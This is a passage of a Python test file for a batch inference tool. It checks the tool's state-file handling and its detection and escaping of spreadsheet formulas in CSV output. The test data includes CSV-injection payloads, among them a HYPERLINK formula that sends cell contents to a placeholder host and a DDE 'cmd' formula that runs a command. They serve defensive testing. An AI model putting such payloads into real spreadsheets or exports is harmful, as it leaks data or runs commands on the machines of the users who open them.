    (tmp_path / "one.md").symlink_to(tmp_path / "one.html")
    with pytest.raises(ValueError, match="the same file"):
        _check_writable(str(tmp_path / "one"))
    os.mkfifo(tmp_path / "two.html")
    with pytest.raises(OSError, match="regular file"):
        _check_writable(str(tmp_path / "two"))


def test_jobs_under_way_stay_beside_what_else_their_file_holds(tmp_path: Path, warned: Any) -> None:
    from inference_providers.batches.provider_parts import Part, State

    path = tmp_path / "out.jsonl.jobs.json"
    path.write_text('{"note": "mine"}')
    path.chmod(0o600)
    part = Part("m", "job-1", "p")
    state = State(str(path), fresh=True)
    state.remember(part)
    assert (json.loads(path.read_text()).keys(), mode(path)) == ({"note", "job-1"}, 0o600)
    state.done(part)
    assert json.loads(path.read_text()) == {"note": "mine"}
    path.write_text("no JSON at all")
    State(str(path), fresh=True).remember(part)
    assert len(warned("something else than jobs")) == 1
    assert sorted(other.read_text()[:7] for other in tmp_path.iterdir()) == ["no JSON", '{"job-1']


# Formulas


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://a.test/?"&A1,"x")', "=1+1", "+1+1", "-1-1", "@SUM(A1)", "\t=1", "\tx", "\rx", "  =1",
        "\n=1", '"=1"', "'=1", "- a list\n- of things", "+49 170 1234567x", "=cmd|' /C calc'!A0", "\ufeff=1",
        "\uff1d1+1", "-", "+", "--1", "-1-", "-1,234.5.6.7e", "=-5", "-A1", "\u200b=1", "\x00=1",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run(cell: str) -> None:
    assert is_formula(cell)


@pytest.mark.parametrize(
    "cell",
    [
        "", " ", "\n", "hello", "a=1", "1+1", "-5", "+3.2e4", "-1,234.5", "-1.234,5", "-.5", "+5.", "-5%", "-5 %", "42",
        "-1 234 567", " -5 ", "-5\n", "\n\nhello", "e=mc2", "(-5)", "+1E-7", "/x", "#x", "\u2212x",
    ],
)  # fmt: skip
def test_what_it_would_not(cell: str) -> None:
    assert not is_formula(cell)


@given(number=st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_no_number_is_a_formula(number: float) -> None:
    assert not is_formula(f"{number}")
    assert not is_formula(f"{number:+}")
    assert not is_formula(f"{number:,}")


def table(path: Path) -> list[dict[str, str]]:
    import csv

    with path.open(newline="") as file:
        return list(csv.DictReader(file))


def _formulas(messages: list[dict[str, Any]]) -> str:
    return str(messages[-1]["content"]).removeprefix("say ")


@pytest.mark.parametrize("csv_formulas", ["keep", "escape"])
def test_formulas_in_answers_are_counted_or_made_text(tmp_path: Path, csv_formulas: str, warned: Any) -> None:
    rows = ["=1+1", "-5", "- item", "plain", "@x"]
    (tmp_path / "in.csv").write_text("prompt,note\n" + "".join(f"say {row},=mine\n" for row in rows))
    out = tmp_path / "out.csv"
    for _ in range(2):  # the second time nothing is asked
        asked(tmp_path / "in.csv", out, reply=_formulas, csv_formulas=csv_formulas)
        marked = ["'=1+1", "-5", "'- item", "plain", "'@x"] if csv_formulas == "escape" else rows
        assert [row["answer"] for row in table(out)] == marked
        assert [row["note"] for row in table(out)] == ["=mine"] * 5  # the user's own
    assert [row["answer"] for row in map(json.loads, (tmp_path / "out.csv.jsonl").read_text().splitlines())] == rows
    said = warned("spreadsheet")
    assert len(said) == (2 if csv_formulas == "keep" else 0)
    assert all("3 cells" in message and 'csv_formulas="escape"' in message for message in said)


def test_formulas_in_names_and_errors_are_ours_too(tmp_path: Path, warned: Any) -> None:
    questions = [{"prompt": "a", "custom_id": "=A1"}, {"prompt": "", "custom_id": "+x+"}]
    asked(questions, tmp_path / "out.csv")
    assert "2 cells" in warned("spreadsheet")[0]
    asked(questions, tmp_path / "out.csv", csv_formulas="escape")
    assert [row["custom_id"] for row in table(tmp_path / "out.csv")] == ["'=A1", "'+x+"]
    broken = {"m": {"error": {"status": 400, "message": "=bad()"}}}
    ProviderList(mock=broken, local=False).batch(["a"], "m", out=tmp_path / "e.csv", csv_formulas="escape")
    (row,) = table(tmp_path / "e.csv")
    assert not is_formula(row["error"])


@pytest.mark.parametrize("wrong", ["remove", "", None, True])
def test_there_are_no_other_ways_with_formulas(tmp_path: Path, wrong: Any) -> None:
    with pytest.raises(ValueError, match="csv_formulas must be"):
        asked(["a"], tmp_path / "out.csv", csv_formulas=wrong)


def test_the_command_line_has_them_too(tmp_path: Path) -> None:
    (tmp_path / "in.csv").write_text("prompt\n")
    assert shell("BATCH in.csv -o out.csv --csv-formulas escape", tmp_path).returncode == 0
    assert shell("BATCH in.csv -o out.csv --csv-formulas other", tmp_path).returncode == 2
